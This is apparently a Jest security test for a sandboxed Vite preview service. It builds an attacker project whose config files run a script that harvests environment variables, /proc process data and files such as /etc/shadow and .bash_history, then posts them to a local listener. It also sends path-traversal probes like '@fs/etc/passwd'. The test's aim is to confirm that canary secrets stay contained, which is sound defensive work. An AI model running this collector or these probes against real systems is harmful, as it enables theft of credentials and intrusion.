/**
 * A project as an attacker writes it, previewed by the real system: its
 * `postcss.config.js` (which Vite runs when it compiles the page's stylesheet)
 * and its `vite.config.js` gather what they can reach (their environment,
 * every /proc/<pid>/environ and cmdline, files above the work folder, the
 * service's own files) and send it everywhere they can: a file the preview
 * serves, an HTTP listener on the host's loopback, the machine's log. Canary
 * secrets set in the services' environment appear in none of them. Then the
 * preview's Vite is asked for the open-in-editor endpoint, the service's own
 * sources and an error page, as an attacker would.
 */
import { randomBytes } from 'node:crypto';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, resolve } from 'node:path';
import { putFile, startPreview, until } from '../src/browser';
import { uploadProject } from '@velocity/testing';
import { startSystem, type RunningSystem } from '../src/system';

jest.setTimeout(120_000);

const REPO_ROOT = resolve(__dirname, '../../..');
const hex = () => randomBytes(12).toString('hex');
/** Secrets of the services, as canaries: each must appear nowhere the project's code can send it. */
const CANARIES = {
  MACHINE_TOKEN_SECRET: `canary-signing-${hex()}`,
  OPERATOR_USER: 'operator',
  OPERATOR_PASSWORD: `canary-password-${hex()}`,
  OPERATOR_TOKEN: `canary-operator-token-${hex()}`,
  CLOUD_API_KEY: `canary-cloud-key-${hex()}`,
  // An innocent name: only an allow-list keeps it from the machines.
  VP_RELEASE_NOTE: `canary-plain-${hex()}`,
};
const FILE_CANARY = `canary-file-${hex()}`;

/** What the project's config files run: gather everything, then send it to `sinks`. */
const collector = (listenerPort: number, hostPaths: string[]) => `
const fs = require('fs');
const path = require('path');
const http = require('http');
const found = { ran: true, by: path.basename(__filename), uid: process.getuid(), cwd: process.cwd(), env: process.env, procs: [], files: {} };
for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name))) {
  const read = (what) => { try { return fs.readFileSync('/proc/' + pid + '/' + what, 'utf8'); } catch (err) { return 'refused: ' + err.code; } };
  found.procs.push({ pid, environ: read('environ'), cmdline: read('cmdline') });
}
const readAll = (file) => { try { const stat = fs.statSync(file); if (stat.isFile() && stat.size < 1e6) found.files[file] = fs.readFileSync(file, 'utf8'); } catch (err) { found.files[file] = 'refused: ' + err.code; } };
for (let dir = __dirname, depth = 0; depth < 8; dir = path.dirname(dir), depth++) {
  try { for (const name of fs.readdirSync(dir)) readAll(path.join(dir, name)); } catch (err) { found.files[dir] = 'refused: ' + err.code; }
  if (dir === '/') break;
}
for (const file of ${JSON.stringify(hostPaths)}) readAll(file);
const report = JSON.stringify(found);
try { fs.writeFileSync(path.join(__dirname, 'leak-' + found.by + '.json'), report); } catch (err) { console.error('write refused', err.code); }
console.log(report);
const req = http.request({ host: '127.0.0.1', port: ${listenerPort}, method: 'POST', path: '/' + found.by }, (res) => res.resume());
req.on('error', () => undefined);
req.end(report);
`;

describe('a project whose config files go after the service’s secrets, previewed in a sandbox', () => {
  let system: RunningSystem;
  let listener: Server;
  const received: string[] = [];
  const repoCanary = join(REPO_ROOT, `.sandbox-canary-${hex()}`);
  let machinesCanary: string;

  beforeAll(async () => {
    listener = createServer((req, res) => {
      let body = '';
      req.on('data', (chunk) => (body += chunk));
      req.on('end', () => {
        received.push(body);
        res.end('thanks');
      });
    });
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    writeFileSync(repoCanary, FILE_CANARY, { mode: 0o644 });
    system = await startSystem({ ...CANARIES });
    machinesCanary = join(system.env.LOCAL_MACHINES_DIR!, 'canary.txt');
    writeFileSync(machinesCanary, FILE_CANARY, { mode: 0o644 });
  }, 60_000);

  afterAll(async () => {
    await system?.stop();
    await new Promise<void>((r) => listener?.close(() => r()));
    rmSync(repoCanary, { force: true });
  });

  it('runs them, contained: no canary in what they could reach or send; the preview refuses the host-acting, source and path-leaking requests', async () => {
    expect(system.output.provisioner.join('\n')).toContain('machine isolation: sandbox');
    const listenerPort = (listener.address() as AddressInfo).port;
    const hostPaths = [repoCanary, machinesCanary, join(REPO_ROOT, '.env'), join(REPO_ROOT, 'package.json'), '/etc/shadow', '/root/.bash_history'];
    const files: Record<string, string> = {
      'index.html': '<!doctype html><html><body><h1>hi</h1><script type="module" src="/src/main.js"></script></body></html>',
      'src/main.js': "import './style.css';\n",
      'src/style.css': 'h1 { color: red }\n',
      'postcss.config.js': `${collector(listenerPort, hostPaths)}\nmodule.exports = { plugins: [] };\n`,
      'vite.config.js': `${collector(listenerPort, hostPaths)}\nmodule.exports = {};\n`,
    };
    // Exactly these files (no package.json: its configs are CommonJS).
    const projectId = await uploadProject(system.baseUrl, 'attacker', 'vanilla-ts', Object.entries(files).map(([path, content]) => ({ path, content: Buffer.from(content) })));

    const preview = await startPreview(system.baseUrl, projectId);
    // The stylesheet went through PostCSS: the config ran.
    expect(await (await fetch(`${preview.previewUrl}src/style.css`)).text()).toContain('color: red');
    let leakText = '';
    await until('the postcss config’s report, served by the preview', async () => {
      const res = await fetch(`${preview.previewUrl}leak-postcss.config.js.json`);
      leakText = await res.text();
      return res.status === 200 && leakText.startsWith('{');
    }, 20_000);
    const leak = JSON.parse(leakText);
    expect(leak).toMatchObject({ ran: true, by: 'postcss.config.js' });
    // An unprivileged user, alone among processes, with none of the host's files.
    expect(leak.uid).not.toBe(0);
    expect(leak.procs.length).toBeLessThanOrEqual(3);
    expect(leak.files[repoCanary]).toMatch(/^refused: /);
    expect(leak.files[machinesCanary]).toMatch(/^refused: /);

    const machineLog = readFileSync(join(system.env.LOCAL_MACHINES_DIR!, preview.sessionId, 'container.log'), 'utf8');
    const everywhere = [leakText, machineLog, ...received].join('\n');
    for (const [name, value] of Object.entries(CANARIES).filter(([name]) => name !== 'OPERATOR_USER')) {
      expect({ name, leaked: everywhere.includes(value) }).toEqual({ name, leaked: false });
    }
    expect(everywhere).not.toContain(FILE_CANARY);
    expect(everywhere).not.toContain(system.env.DATABASE_URL!);
    // (Host paths themselves are no secret: a machine that looks finds its mounts' sources in /proc.)

    // Vite's host-acting endpoint, the service's own sources and host paths in errors, through the preview's origin.
    const editor = await fetch(`${preview.previewUrl}__open-in-editor?file=/etc/passwd`);
    expect(editor.status).toBe(404);
    for (const path of [
      `@fs${REPO_ROOT}/node_modules/@velocity/contracts/src/config.ts?raw`,
      `@fs${REPO_ROOT}/libs/contracts/src/config.ts?raw`,
      '@fs/opt/velocity/node_modules/@velocity/contracts/src/config.ts?raw',
      '@fs/opt/velocity/libs/contracts/src/config.ts?raw',
      'node_modules/@velocity/contracts/src/config.ts?raw',
      '@fs/etc/passwd',
    ]) {
      const res = await fetch(`${preview.previewUrl}${path}`);
      const body = await res.text();
      // Refused (404), or a path the sandbox does not have at all: Vite's page fallback, the project's own page.
      const answer = res.status === 404 ? 'refused' : res.status === 200 && body.includes('<h1>hi</h1>') ? 'the project page' : `${res.status}: ${body.slice(0, 80)}`;
      expect({ path, answer, source: body.includes('MACHINE_TOKEN_SECRET') || body.includes('root:') }).toEqual({ path, answer: expect.stringMatching(/^(refused|the project page)$/), source: false });
    }
    expect((await putFile(system.baseUrl, projectId, 'src/broken.ts', 'export const x: number = ;\n')).status).toBe(201);
    let broken = { status: 0, body: '' };
    await until('the broken module to be served as an error', async () => {
      const res = await fetch(`${preview.previewUrl}src/broken.ts`);
      broken = { status: res.status, body: await res.text() };
      return res.status >= 500;
    }, 15_000).catch((err) => {
      throw new Error(`${(err as Error).message}; last answer ${broken.status}: ${broken.body.slice(0, 300)}`);
    });
    expect(broken.body).toContain('src/broken.ts');
    for (const hostPath of [REPO_ROOT, system.env.LOCAL_MACHINES_DIR!, '/project/', '/opt/velocity']) expect(broken.body).not.toContain(hostPath);
  });
});
